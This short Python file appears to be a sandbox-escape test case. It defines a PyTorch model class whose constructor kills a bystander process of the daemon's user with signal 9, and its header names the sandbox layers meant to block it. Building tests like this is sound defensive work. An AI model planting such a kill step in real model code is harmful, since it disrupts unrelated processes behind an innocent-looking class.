# what: kills another process of the daemon's user
# kind: escape
# ends: lift_failed or sandbox
# stopped by: bubblewrap user landlock seccomp

import torch
from torch import nn


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        torch.os.kill(VICTIM["pid"], 9)
        raise RuntimeError("GOT a bystander")
